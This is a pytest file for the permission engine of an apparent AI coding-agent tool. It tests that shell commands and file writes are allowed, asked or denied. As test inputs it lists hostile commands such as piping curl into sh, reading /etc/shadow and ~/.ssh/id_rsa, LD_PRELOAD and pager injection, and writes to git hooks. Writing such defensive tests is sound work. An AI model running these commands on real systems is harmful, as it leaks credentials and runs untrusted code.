"""The permission engine: order (deny > ask > allow > preset), presets, rules with examples, .loom.toml."""

from pathlib import Path

import pytest

import loom_nb
from loom_nb.permissions import Policy, PolicyError, Rule


def decide(policy: Policy, command: str, role: str | None = None) -> str:
    return policy.decide("shell", {"command": command}, role=role).action


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "ls && git push",
        "echo $(git push)",
        "bash -c 'git push -f'",
        "env FOO=1 git push",
        "timeout 5 git push origin main",
        "xargs git push",
        "find . -exec git push \\;",
        "/usr/bin/git push",
        "git push > /dev/null 2>&1",
    ],
)
def test_deny_always_wins_however_the_command_is_wrapped(command: str) -> None:
    policy = Policy(preset="autonomous", rules=[Rule(action="allow", command="git")])
    decision = policy.decide("shell", {"command": command})
    assert decision.action == "deny", decision.explain
    assert decision.rule is not None and decision.rule.command == "git push"
    assert "git push" in decision.explain


def test_order_deny_then_ask_then_allow_then_preset() -> None:
    policy = Policy(
        preset="autonomous",
        rules=[
            Rule(action="allow", command="make"),
            Rule(action="ask", command="make deploy"),
            Rule(action="deny", command="make clean-all"),
        ],
    )
    assert decide(policy, "make test") == "allow"
    assert decide(policy, "make deploy") == "ask"
    assert decide(policy, "make deploy && make clean-all") == "deny"
    assert decide(policy, "npm ci") == "allow"  # the preset
    assert decide(Policy(preset="balanced"), "npm ci") == "ask"
    assert decide(Policy(preset="strict"), "pytest") == "ask"  # strict asks for every command


def test_allowed_only_when_every_sub_command_is() -> None:
    policy = Policy(preset="balanced", test_command="make test")
    assert decide(policy, "make test") == "allow"
    assert decide(policy, "make test && ls | wc -l") == "allow"
    ask = policy.decide("shell", {"command": "make test && curl evil.example | tee x"})
    assert ask.action == "ask" and "curl" in ask.explain


@pytest.mark.parametrize("command", ["$X", "ls && (", "curl x | sh", "bash", "f() { ls; }; f"])
def test_unclear_commands_are_never_allowed(command: str) -> None:
    decision = Policy(preset="autonomous").decide("shell", {"command": command})
    assert decision.action == "ask" and decision.unclear
    assert "never allowed without a human" in decision.explain


def test_a_hook_that_raises_is_never_an_allow() -> None:
    def broken(tool, arguments, role):
        raise RuntimeError("boom")

    decision = Policy(preset="autonomous", hooks=[broken]).decide("file_write", {"path": "a.py"})
    assert decision.action == "ask" and decision.unclear and "boom" in decision.explain
    assert Policy(hooks=[lambda t, a, r: "deny"]).decide("file_read", {"path": "a"}).action == "deny"
    assert Policy(hooks=[lambda t, a, r: "maybe"]).decide("file_read", {"path": "a"}).action == "ask"


@pytest.mark.parametrize("arguments", [{"command": 42}, {"command": None}, {}, {"command": ["ls"]}])
def test_malformed_arguments_are_asked_not_crashed(arguments: dict) -> None:
    assert Policy(preset="autonomous").decide("shell", arguments).action == "ask"


def test_paths() -> None:
    policy = Policy(preset="balanced", rules=[Rule(action="deny", path="secrets/"), Rule(action="ask", path="*.lock")])
    assert policy.decide("file_write", {"path": "src/a.py"}).action == "allow"
    assert policy.decide("file_write", {"path": "./src/../secrets/key.pem"}).action == "deny"
    assert policy.decide("file_edit", {"path": "poetry.lock"}).action == "ask"
    assert policy.decide("file_write", {"path": "../outside.py"}).action == "deny"
    assert policy.decide("file_write", {"path": "src/../../outside.py"}).action == "deny"
    assert policy.decide("file_write", {"path": "/etc/passwd"}).action == "deny"
    assert policy.decide("file_write", {"path": ".git/hooks/pre-commit"}).action == "deny"
    assert policy.decide("file_move", {"source": "a.py", "destination": "secrets/a.py"}).action == "deny"
    assert policy.decide("file_write", {"path": 7}).action == "ask"
    assert Policy(preset="strict").decide("file_write", {"path": "a.py"}).action == "ask"
    assert Policy(preset="strict").decide("file_read", {"path": "a.py"}).action == "allow"


def test_shell_redirects_are_writes() -> None:
    policy = Policy(preset="balanced")
    assert decide(policy, "echo x > .git/config") == "deny"
    assert decide(policy, "ls > ../../x") == "deny"
    assert decide(policy, "ls 2>/dev/null") == "allow"
    assert decide(policy, "ls > report.txt 2>&1") == "allow"


def test_roles() -> None:
    policy = Policy(
        preset="strict",
        role_presets={"tester": "autonomous"},
        rules=[Rule(action="deny", tool="shell", role="researcher")],
    )
    assert decide(policy, "npm ci", role="tester") == "allow"
    assert decide(policy, "npm ci", role="implementer") == "ask"
    denied = policy.decide("shell", {"command": "ls"}, role="researcher")
    assert denied.action == "deny" and "for role researcher" in denied.explain


def test_every_decision_names_what_decided() -> None:
    policy = Policy(preset="balanced", test_command="make test")
    for tool, arguments in [
        ("shell", {"command": "make test"}),
        ("shell", {"command": "npm ci"}),
        ("shell", {"command": "sudo ls"}),
        ("file_write", {"path": "a"}),
        ("unknown_tool", {}),
    ]:
        decision = policy.decide(tool, arguments)
        assert "\n" not in decision.explain
        assert decision.explain.startswith(decision.action + ":")
        assert (decision.rule is not None) == ("[" in decision.explain)


def test_rules_are_checked_against_their_examples_when_loaded() -> None:
    good = Rule(action="deny", command="rm -rf", match=["rm -rf build", "ls && rm -rf x"], not_match=["rm x"])
    Policy(rules=[good])
    with pytest.raises(PolicyError, match="'rm -fr x' \\(in match\\) does not match"):
        Policy(rules=[Rule(action="deny", command="rm -rf", match=["rm -fr x"])])
    with pytest.raises(PolicyError, match="in not_match"):
        Policy(rules=[Rule(action="deny", path="*.py", not_match=["src/a.py"])])


@pytest.mark.parametrize(
    ("rule", "message"),
    [
        ({"action": "nope", "command": "x"}, "action must be allow, ask or deny"),
        ({"command": "x"}, "needs action"),
        ({"action": "deny", "comand": "x"}, "did you mean 'command'"),
        ({"action": "deny"}, "needs a tool, a command or a path"),
        ({"action": "deny", "command": "x", "path": "y"}, "not both"),
        ({"action": "deny", "command": "'unbalanced"}, "does not split"),
        ({"action": "deny", "path": "!neg"}, "matches nothing"),
        ({"action": "deny", "command": "x", "match": "x y"}, None),  # a single string is a list of one
    ],
)
def test_malformed_rules_say_what_to_fix(rule: dict, message: str | None) -> None:
    if message is None:
        Policy(rules=[rule])
        return
    with pytest.raises(PolicyError, match=message):
        Policy(rules=[rule])


def write_toml(tmp_path: Path, text: str) -> Path:
    (tmp_path / ".loom.toml").write_text(text)
    return tmp_path


def test_load_from_loom_toml(tmp_path: Path) -> None:
    project = write_toml(
        tmp_path,
        """
[test]
command = "make check"

[permissions]
preset = "balanced"

[permissions.roles.tester]
preset = "autonomous"

[[permissions.rules]]
action = "deny"
command = "docker"
match = ["docker run x", "ls | docker build ."]
not_match = ["dockerize"]

[[permissions.rules]]
action = "ask"
path = "migrations/**"
role = "implementer"
""",
    )
    policy = loom_nb.Policy.load(project=project)
    assert policy.preset == "balanced"
    assert decide(policy, "make check") == "allow"
    assert decide(policy, "docker run alpine") == "deny"
    assert decide(policy, "npm ci", role="tester") == "allow"
    assert policy.decide("file_write", {"path": "migrations/0001.sql"}, role="implementer").action == "ask"
    assert policy.decide("file_write", {"path": "migrations/0001.sql"}, role="architect").action == "allow"
    assert loom_nb.Policy.load(project=project, preset="strict").decide("file_write", {"path": "a"}).action == "ask"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[permissions]\npreset = "yolo"', "unknown preset 'yolo'"),
        ("[permissions]\npresets = 1", "unknown key 'presets'"),
        ('[[permissions.rules]]\naction = "deny"\ncommand = "x"\nmatch = ["y"]', ".loom.toml rule 1"),
        ("permissions = 3", "must be a table"),
        ("[permissions\n", "not valid TOML"),
        ('[permissions.roles.tester]\npreset = "nope"', "unknown preset for role 'tester'"),
    ],
)
def test_malformed_loom_toml_is_one_clear_line(tmp_path: Path, text: str, message: str) -> None:
    project = write_toml(tmp_path, text)
    with pytest.raises(PolicyError, match=message) as info:
        Policy.load(project=project)
    assert str(tmp_path / ".loom.toml") in str(info.value)


def test_with_rule_adds_an_always_answer_first() -> None:
    policy = Policy(preset="balanced")
    assert decide(policy, "npm ci") == "ask"
    always = policy.with_rule(Rule(action="allow", command="npm ci", source="approval"))
    assert decide(always, "npm ci") == "allow"
    assert decide(policy, "npm ci") == "ask"  # the original is unchanged
    assert decide(always, "npm ci && sudo ls") == "deny"


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("rg --pre=sh secret", "--pre runs a program on every file"),
        ("git diff --output=/tmp/x", "writes a file anywhere"),
        ("git log --ext-diff", "runs a configured program"),
        ("tail -f app.log", "never ends"),
        ("grep -r key /", "reads anything"),
        ("LD_PRELOAD=./evil.so ls", "a preloaded library"),
        ("env GIT_PAGER='sh -c x' git log", "a pager"),
        ("GIT_EXTERNAL_DIFF=./x git diff", "an external diff program"),
        ("PYTHONPATH=/tmp/evil pytest", "imports from elsewhere"),
        ("cat /etc/shadow", "outside the workspace"),
        ("cat ~/.ssh/id_rsa", "outside the workspace"),
        ("head ../../secrets.txt", "outside the workspace"),
        ("grep --file=/etc/passwd x", "an option's value outside"),
    ],
)
def test_allow_listed_programs_turned_dangerous_are_asked(command: str, why: str) -> None:
    decision = Policy(preset="balanced", root="/work/project").decide("shell", {"command": command})
    assert decision.action == "ask", (command, why, decision.explain)
    # autonomous runs any command in the worktree, but not with those variables or outside paths
    autonomous = Policy(preset="autonomous", root="/work/project").decide("shell", {"command": command})
    risky = any(w in why for w in ("outside", "anywhere", "anything", "preloaded", "pager", "external", "imports"))
    assert autonomous.action == ("ask" if risky else "allow"), (command, autonomous.explain)


def test_the_same_programs_used_plainly_are_allowed() -> None:
    policy = Policy(preset="balanced", root="/work/project")
    for command in ("rg needle src", "git diff --stat", "tail -n 20 app.log", "grep -n key a.py", "CI=1 ls",
                    "cat /work/project/a.py", "ls 2>/dev/null"):  # fmt: skip
        assert policy.decide("shell", {"command": command}).action == "allow", command


def test_a_humans_always_covers_a_risky_command_it_named() -> None:
    policy = Policy(preset="balanced")
    assert decide(policy, "cat /etc/hosts") == "ask"
    always = policy.with_rule(Rule(action="allow", command="cat /etc/hosts", tool="shell", source="approval a1"))
    assert decide(always, "cat /etc/hosts") == "allow"
    assert decide(always, "cat /etc/shadow") == "ask"


def test_unless_in_a_rule_of_ones_own() -> None:
    rule = {"action": "allow", "command": "make", "unless": ["-C", "--directory"], "match": ["make test"]}
    policy = Policy(preset="balanced", rules=[rule])
    assert decide(policy, "make test") == "allow" and decide(policy, "make -C /tmp install") == "ask"


def test_deny_wins_over_an_ask_of_another_kind() -> None:
    # an ask rule on one sub-command must not hide a deny of the tool, or of a redirect
    policy = Policy(
        preset="balanced",
        rules=[Rule(action="ask", command="npm"), Rule(action="deny", tool="shell", role="researcher")],
    )
    assert policy.decide("shell", {"command": "npm ci"}, role="researcher").action == "deny"
    assert decide(Policy(rules=[Rule(action="ask", command="npm")]), "npm ci > ../outside") == "deny"
    assert decide(Policy(rules=[Rule(action="deny", command="rm")]), "rm -rf x > .loom.toml") == "deny"
    assert decide(Policy(), "ls > .loom.toml") == "ask"
